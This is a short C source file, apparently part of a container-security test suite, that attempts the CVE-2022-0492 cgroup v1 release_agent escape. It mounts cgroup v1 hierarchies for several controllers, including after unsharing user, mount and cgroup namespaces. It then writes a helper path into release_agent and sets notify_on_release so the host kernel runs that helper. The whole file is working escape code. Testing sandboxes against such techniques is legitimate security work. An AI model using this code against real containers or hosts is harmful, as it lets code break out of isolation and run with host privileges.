/* Mounts cgroup v1 and has the kernel run its release agent (CVE-2022-0492). */
#include "common/attack.h"

static void agent(const char *options) {
    char path[128];
    const char *place = own(options);
    mkdir(place, 0777);
    printf("cgroup v1 %s: ", options);
    if (mount("cgroup", place, "cgroup", 0, options) < 0) {
        printf("%s\n", strerror(errno));
        return;
    }
    printf("mounted\n");
    snprintf(path, sizeof path, "%s/release_agent", place);
    put(path, own("helper"));
    snprintf(path, sizeof path, "%s/notify_on_release", place);
    put(path, "1");
}

static void inside(void) {
    TRY(unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP));
    agent("rdma");
}

static void attempt(void) {
    agent("rdma");
    agent("memory");
    agent("devices");
    agent("net_cls");
    agent("none,name=" MARK);
    apart(inside, 5);
}
